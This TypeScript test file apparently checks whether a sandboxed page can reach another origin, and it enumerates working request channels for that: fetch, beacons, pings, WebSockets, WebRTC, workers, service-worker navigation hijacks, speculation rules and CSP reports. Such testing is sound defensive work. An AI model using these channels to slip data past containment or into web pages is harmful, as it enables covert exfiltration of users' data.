import { attacks, code, open, run } from './attack.ts';

/** K31: everything that a page can ask of another origin without going there. */
const put = (html: (to: string) => string) => run((to) => `document.body.insertAdjacentHTML('beforeend', ${html(`' + ${to} + '`)})`);
const inHead = (html: string) => run((to) => `document.head.insertAdjacentHTML('beforeend', '${html.replaceAll('TO', `' + ${to} + '`)}')`);
const fetching = (to: string): string => `fetch(${to}, { mode: 'no-cors' })`;
const serviceWorker = (source: (to: string) => string, after = '') =>
  run(
    (to) => `await navigator.serviceWorker.register(${code(source(to))}, { scope: '/' }); await navigator.serviceWorker.ready; ${after.replaceAll('TO', to)}`,
  );
const controlled = `if (!navigator.serviceWorker.controller) await new Promise((done) => navigator.serviceWorker.addEventListener('controllerchange', done));`;
const taking = `self.oninstall = () => self.skipWaiting(); self.onactivate = (event) => event.waitUntil(self.clients.claim());`;

export const requests = attacks('K31', 'hit', {
  fetch: run((to) => `await ${fetching(to)}`),
  'fetch with a body': run((to) => `await fetch(${to}, { mode: 'no-cors', method: 'POST', body: 'typed' })`),
  'fetch that asks leave first': run((to) => `await fetch(${to}, { method: 'PUT', headers: { 'x-work': '1' } })`),
  'fetch that outlives the page': run(
    (to) => `addEventListener('pagehide', () => void fetch(${to}, { mode: 'no-cors', keepalive: true })); location.href = '/next'`,
  ),
  'fetch for later': run((to) => `fetchLater(${to}, { activateAfter: 0 })`),
  XMLHttpRequest: run((to) => `const ask = new XMLHttpRequest(); ask.open('POST', ${to}); ask.send('typed')`),
  'XMLHttpRequest that blocks': run((to) => `const ask = new XMLHttpRequest(); ask.open('GET', ${to}, false); try { ask.send() } catch {}`),
  beacon: run((to) => `navigator.sendBeacon(${to}, 'typed')`),
  'beacon at the end': run((to) => `addEventListener('pagehide', () => navigator.sendBeacon(${to}, 'typed')); location.href = '/next'`),
  ping: run((to) => `const link = Object.assign(document.createElement('a'), { href: '#here', ping: ${to} }); document.body.append(link); link.click()`),
  EventSource: run((to) => `new EventSource(${to})`),
  WebSocket: run((to) => `new WebSocket(${to}.replace('http', 'ws'))`),
  'WebSocket over TLS': { unmarked: true, how: run((to) => `new WebSocket(${to}.replace('http', 'wss'))`) },
  'WebRTC by STUN': {
    unmarked: true,
    how: run(
      (to) =>
        `const peer = new RTCPeerConnection({ iceServers: [{ urls: 'stun:127.0.0.1:' + new URL(${to}).port }] }); peer.createDataChannel('x'); await peer.setLocalDescription()`,
    ),
  },
  'WebRTC by TURN over TCP': {
    unmarked: true,
    how: run(
      (to) =>
        `const peer = new RTCPeerConnection({ iceTransportPolicy: 'relay', iceServers: [{ urls: 'turn:127.0.0.1:' + new URL(${to}).port + '?transport=tcp', username: 'u', credential: 'c' }] }); peer.createDataChannel('x'); await peer.setLocalDescription()`,
    ),
  },
  WebTransport: { unmarked: true, how: run((to) => `new WebTransport('https://127.0.0.1:' + new URL(${to}).port + '/').ready.catch(() => null)`) },
  picture: run((to) => `new Image().src = ${to}`),
  'picture of a set': put((to) => `'<img srcset="${to} 1x">'`),
  'picture of a picture element': put((to) => `'<picture><source srcset="${to}"><img></picture>'`),
  'picture in a drawing': put((to) => `'<svg><image href="${to}"/></svg>'`),
  'part of a drawing elsewhere': {
    how: put((to) => `'<svg><use href="${to}#x"/></svg>'`),
    browserStops: 'Chromium takes parts of drawings from the page’s own origin alone',
  },
  video: put((to) => `'<video src="${to}" autoplay></video>'`),
  'picture of a video': put((to) => `'<video poster="${to}"></video>'`),
  sound: put((to) => `'<audio src="${to}" preload="auto"></audio>'`),
  captions: put((to) => `'<video src="/next" crossorigin><track default kind="captions" src="${to}"></video>'`),
  'input that is a picture': put((to) => `'<input type="image" src="${to}">'`),
  script: run((to) => `document.head.append(Object.assign(document.createElement('script'), { src: ${to} }))`),
  'script module': run((to) => `document.head.append(Object.assign(document.createElement('script'), { type: 'module', src: ${to} }))`),
  import: run((to) => `await import(${to}).catch(() => null)`),
  style: inHead('<link rel="stylesheet" href="TO">'),
  'style of a style': inHead('<style>@import "TO";</style>'),
  font: inHead('<style>@font-face{font-family:x;src:url(TO)}p{font-family:x}</style>'),
  'background of an element': inHead('<style>body{background:url(TO)}</style>'),
  preload: inHead('<link rel="preload" as="image" href="TO">'),
  'preload of a module': inHead('<link rel="modulepreload" href="TO">'),
  'preload by a header': open('/with', (to) => ({ header: 'link', value: `<${to}>; rel=preload; as=image` })),
  prefetch: inHead('<link rel="prefetch" href="TO">'),
  'prefetch by a header': open('/with', (to) => ({ header: 'link', value: `<${to}>; rel=prefetch` })),
  prerender: { how: inHead('<link rel="prerender" href="TO">'), browserStops: 'Chromium gave up prerendering by links' },
  manifest: { how: inHead('<link rel="manifest" href="TO">'), browserStops: 'headless Chromium does not look whether a page can be installed' },
  icon: inHead('<link rel="icon" href="TO">'),
  'speculation rules, prefetch': run(
    (to) =>
      `document.head.append(Object.assign(document.createElement('script'), { type: 'speculationrules', textContent: JSON.stringify({ prefetch: [{ source: 'list', urls: [${to}], eagerness: 'immediate' }] }) }))`,
  ),
  'speculation rules, prerender': run(
    (to) =>
      `document.head.append(Object.assign(document.createElement('script'), { type: 'speculationrules', textContent: JSON.stringify({ prerender: [{ source: 'list', urls: [${to}], eagerness: 'immediate' }] }) }))`,
  ),
  'speculation rules, prerender of an allowed page that redirects': run(
    (to) =>
      `document.head.append(Object.assign(document.createElement('script'), { type: 'speculationrules', textContent: JSON.stringify({ prerender: [{ source: 'list', urls: ['/hop?to=' + encodeURIComponent(${to})], eagerness: 'immediate' }] }) }))`,
  ),
  'speculation rules, prerender of an allowed page that asks elsewhere': {
    how: run(
      (to) =>
        `document.head.append(Object.assign(document.createElement('script'), { type: 'speculationrules', textContent: JSON.stringify({ prerender: [{ source: 'list', urls: ['/page?' + new URLSearchParams({ run: 'new Image().src = ' + JSON.stringify(${to}) })], eagerness: 'immediate' }] }) }))`,
    ),
    browserStops: 'a page that is prerendered asks nothing here before it is shown',
  },
  'report of a content policy': run(
    (to) =>
      `document.body.append(Object.assign(document.createElement('iframe'), { src: '/with?' + new URLSearchParams({ header: 'content-security-policy', value: "script-src 'none'; img-src 'none'; style-src 'none'; report-uri " + ${to} }), onload() { this.contentDocument.body.innerHTML = '<img src="/x">' } }))`,
  ),
  worker: run((to) => `new Worker(${code(fetching(to))})`),
  'worker of a blob': run((to) => `new Worker(URL.createObjectURL(new Blob([${JSON.stringify(fetching(to))}])))`),
  'worker within a worker': run((to) => `new Worker(${code(`new Worker(${code(fetching(to))})`)})`),
  'worker that imports': run((to) => `new Worker(${code(`importScripts(${to})`)})`),
  'worker of modules that imports': run((to) => `new Worker(${code(`import(${to})`)}, { type: 'module' })`),
  'worker’s socket': run((to) => `new Worker(${code(`new WebSocket(${to}.replace('http', 'ws'))`)})`),
  'shared worker': run((to) => `new SharedWorker(${code(fetching(to))})`),
  'shared worker of a blob': run((to) => `new SharedWorker(URL.createObjectURL(new Blob([${JSON.stringify(fetching(to))}])))`),
  worklet: run((to) => `await new AudioContext().audioWorklet.addModule(${to}).catch(() => null)`),
  'paint worklet': run((to) => `await CSS.paintWorklet.addModule(${to}).catch(() => null)`),
  'service worker that asks': serviceWorker(fetching),
  'service worker that imports': run((to) => `await navigator.serviceWorker.register(${code(`importScripts(${to})`)}, { scope: '/' }).catch(() => null)`),
  'service worker that asks for the page': serviceWorker(
    (to) => `${taking} self.onfetch = (event) => { if (event.request.url.endsWith('/asked')) event.respondWith(fetch(${to}, { mode: 'no-cors' })) }`,
    `${controlled} await fetch('/asked', { mode: 'no-cors' })`,
  ),
  'service worker that answers a navigation with a redirect': serviceWorker(
    (to) => `${taking} self.onfetch = (event) => { if (event.request.mode === 'navigate') event.respondWith(Response.redirect(${to})) }`,
    `${controlled} location.href = '/next'`,
  ),
  'service worker that answers a navigation with its own page': serviceWorker(
    (to) =>
      `${taking} self.onfetch = (event) => { if (event.request.mode === 'navigate') event.respondWith(new Response('<img src="' + ${to} + '">', { headers: { 'content-type': 'text/html' } })) }`,
    `${controlled} location.href = '/next'`,
  ),
  'service worker that moves its page': {
    how: serviceWorker(
      (to) => `${taking} self.onmessage = (event) => event.waitUntil(self.clients.matchAll().then((all) => all[0].navigate(${to})))`,
      `${controlled} navigator.serviceWorker.controller.postMessage('go')`,
    ),
  },
  'service worker’s cache': run((to) => `await (await caches.open('c')).add(new Request(${to}, { mode: 'no-cors' })).catch(() => null)`),
  // They open a connection and ask nothing: where they work, `silentConnections` sees them, and cannot say whose they were.
  preconnect: { how: inHead('<link rel="preconnect" href="TO">'), browserStops: 'headless Chromium does not connect ahead' },
  'preconnect by a header': {
    how: open('/with', (to) => ({ header: 'link', value: `<${to}>; rel=preconnect` })),
    browserStops: 'headless Chromium does not connect ahead',
  },
});
